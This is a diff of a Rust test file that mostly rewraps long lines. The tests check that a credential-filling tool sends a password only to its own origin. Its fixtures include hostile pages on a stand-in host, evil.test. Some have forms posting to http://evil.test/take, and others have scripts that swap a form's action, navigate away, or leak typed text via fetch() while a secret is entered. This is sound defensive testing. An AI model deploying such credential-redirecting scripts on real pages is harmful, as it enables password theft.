@@ -58,9 +58,17 @@ fn r19_r22_a_value_goes_to_its_own_origin_and_to_no_other() {
         )
     };
     stage.page("*", "/to-evil", &form("action=http://evil.test/take"));
-    stage.page("*", "/to-sibling", &form("action=http://login.shop.test/session"));
+    stage.page(
+        "*",
+        "/to-sibling",
+        &form("action=http://login.shop.test/session"),
+    );
     stage.page("*", "/to-https", &form("action=https://shop.test/session"));
-    stage.page("*", "/to-port", &form("action=http://shop.test:8080/session"));
+    stage.page(
+        "*",
+        "/to-port",
+        &form("action=http://shop.test:8080/session"),
+    );
     stage.page("*", "/to-script", &form("action=\"javascript:void 0\""));
     stage.page(
         "*",
@@ -71,7 +79,8 @@ fn r19_r22_a_value_goes_to_its_own_origin_and_to_no_other() {
     stage.page(
         "*",
         "/clobbered",
-        &form("action=http://evil.test/take").replace("<button>", "<input name=action value=/session><button>"),
+        &form("action=http://evil.test/take")
+            .replace("<button>", "<input name=action value=/session><button>"),
     );
     stage.page(
         "*",
@@ -105,10 +114,20 @@ fn r19_r22_a_value_goes_to_its_own_origin_and_to_no_other() {
         ("frames-evil", "http://shop.test/frames-evil"),
         ("action-script", "http://shop.test/to-script"),
     ] {
-        sign_in(&lab, id, start, "hosts: [evil.test, login.shop.test]\n", home);
+        sign_in(
+            &lab,
+            id,
+            start,
+            "hosts: [evil.test, login.shop.test]\n",
+            home,
+        );
     }
     // `fill` with `credential:` is held to the same.
-    for (id, start) in [("fill-right", "http://shop.test/login"), ("fill-evil", "http://evil.test/login"), ("fill-action", "http://shop.test/to-evil")] {
+    for (id, start) in [
+        ("fill-right", "http://shop.test/login"),
+        ("fill-evil", "http://evil.test/login"),
+        ("fill-action", "http://shop.test/to-evil"),
+    ] {
         lab.scenario(
             id,
             &format!(
@@ -172,12 +191,36 @@ fn r20_r21_r23_case_081_pages_that_turn_while_a_secret_is_typed() {
             ),
         );
     };
-    page("/swaps-action", "", "p.oninput = () => f.setAttribute('action', 'http://evil.test/take')");
-    page("/swaps-button", "", "p.oninput = () => b.setAttribute('formaction', 'http://evil.test/take')");
-    page("/swaps-method", "", "p.oninput = () => f.setAttribute('method', 'get')");
-    page("/navigates", "", "p.onfocus = () => location.href = 'http://evil.test/login'");
-    page("/navigates-late", "", "p.oninput = () => { if (p.value.length > 4) location.href = 'http://evil.test/login' }");
-    page("/jumps", "<label>Search <input id=q></label>", "p.oninput = () => { if (p.value.length === 3) q.focus() }; q.oninput = () => fetch('/searched?q=' + q.value)");
+    page(
+        "/swaps-action",
+        "",
+        "p.oninput = () => f.setAttribute('action', 'http://evil.test/take')",
+    );
+    page(
+        "/swaps-button",
+        "",
+        "p.oninput = () => b.setAttribute('formaction', 'http://evil.test/take')",
+    );
+    page(
+        "/swaps-method",
+        "",
+        "p.oninput = () => f.setAttribute('method', 'get')",
+    );
+    page(
+        "/navigates",
+        "",
+        "p.onfocus = () => location.href = 'http://evil.test/login'",
+    );
+    page(
+        "/navigates-late",
+        "",
+        "p.oninput = () => { if (p.value.length > 4) location.href = 'http://evil.test/login' }",
+    );
+    page(
+        "/jumps",
+        "<label>Search <input id=q></label>",
+        "p.oninput = () => { if (p.value.length === 3) q.focus() }; q.oninput = () => fetch('/searched?q=' + q.value)",
+    );
     // Decoys: none of them may ever get a key of the password.
     page(
         "/decoys",
@@ -209,15 +252,35 @@ fn r20_r21_r23_case_081_pages_that_turn_while_a_secret_is_typed() {
     stage.page("shop.test", "/get", &get("method=get"));
     stage.page("shop.test", "/no-method", &get(""));
     stage.page("shop.test", "/get-case", &get("method=GeT"));
-    stage.page("evil.test", "/login", &format!("<title>Evil</title>{LOGIN}{keys}"));
+    stage.page(
+        "evil.test",
+        "/login",
+        &format!("<title>Evil</title>{LOGIN}{keys}"),
+    );
     let mut lab = Lab::on(&stage, HOSTS, true);
     credential(&mut lab, &password);
     let evil = "hosts: [evil.test]\n";
     for id in [
-        "swaps-action", "swaps-button", "swaps-method", "navigates", "navigates-late", "jumps", "decoys",
-        "two-forms", "registration", "get", "get-case", "no-method",
+        "swaps-action",
+        "swaps-button",
+        "swaps-method",
+        "navigates",
+        "navigates-late",
+        "jumps",
+        "decoys",
+        "two-forms",
+        "registration",
+        "get",
+        "get-case",
+        "no-method",
     ] {
-        sign_in(&lab, id, &format!("http://shop.test/{id}"), evil, "{ see: Orders }");
+        sign_in(
+            &lab,
+            id,
+            &format!("http://shop.test/{id}"),
+            evil,
+            "{ see: Orders }",
+        );
     }
     let run = lab.run(&["--fresh", "--jobs", "2"]);
     run.check(&[
@@ -236,7 +299,11 @@ fn r20_r21_r23_case_081_pages_that_turn_while_a_secret_is_typed() {
     ]);
     let received = stage.received();
     let whole = received_anywhere(&stage, &password);
-    assert_eq!(whole, ["POST shop.test/session"], "only the page with decoys was signed in to");
+    assert_eq!(
+        whole,
+        ["POST shop.test/session"],
+        "only the page with decoys was signed in to"
+    );
     // Nothing of the password reaches another field or another page.
     for request in &received {
         assert!(
@@ -249,7 +316,10 @@ fn r20_r21_r23_case_081_pages_that_turn_while_a_secret_is_typed() {
         }
     }
     // The decoys' form was sent with all of them empty.
-    let sent = received.iter().find(|r| r.path == "/session").expect("a sign-in");
+    let sent = received
+        .iter()
+        .find(|r| r.path == "/session")
+        .expect("a sign-in");
     for decoy in ["d1=", "d2=", "d3=", "d4=", "d6="] {
         let value = sent.body.split('&').find_map(|f| f.strip_prefix(decoy));
         assert_eq!(value, Some(""), "{decoy} of {}", sent.body);
@@ -340,9 +410,18 @@ fn r6_r65_logins_end_with_a_named_outcome() {
             ),
         );
     };
-    rejected("expected", "ends: { status: failed, reason: login_rejected, step: 1 }\n");
+    rejected(
+        "expected",
+        "ends: { status: failed, reason: login_rejected, step: 1 }\n",
+    );
     rejected("rejected", "");
-    let tries = || stage.writes().iter().filter(|w| w.ends_with("/session")).count();
+    let tries = || {
+        stage
+            .writes()
+            .iter()
+            .filter(|w| w.ends_with("/session"))
+            .count()
+    };
     let before = tries();
     let run = lab.run(&["expected", "--fresh", "--repeat", "4"]);
     assert_eq!((run.code, tries() - before), (0, 4), "{}", run.stdout);
@@ -357,7 +436,11 @@ fn r6_r65_logins_end_with_a_named_outcome() {
         .args(["credentials", "test", "stale", "--reset"])
         .output()
         .expect("the program");
-    assert!(reset.status.success(), "{}", String::from_utf8_lossy(&reset.stderr));
+    assert!(
+        reset.status.success(),
+        "{}",
+        String::from_utf8_lossy(&reset.stderr)
+    );
     let run = lab.run(&["rejected", "--fresh"]);
     run.check(&[("rejected", "failed/login_rejected")]);
 }
@@ -367,7 +450,13 @@ fn r6_r65_logins_end_with_a_named_outcome() {
 fn r6_case_072_a_missing_or_empty_credential_stops_before_any_browser() {
     let stage = Stage::open("");
     let mut lab = Lab::on(&stage, HOSTS, true);
-    sign_in(&lab, "missing", "http://shop.test/login", "", "{ see: Orders }");
+    sign_in(
+        &lab,
+        "missing",
+        "http://shop.test/login",
+        "",
+        "{ see: Orders }",
+    );
     let run = lab.run(&["--fresh"]);
     assert_eq!(run.code, 2, "{}", run.stderr);
     assert!(!run.browser_seen && stage.received().is_empty());
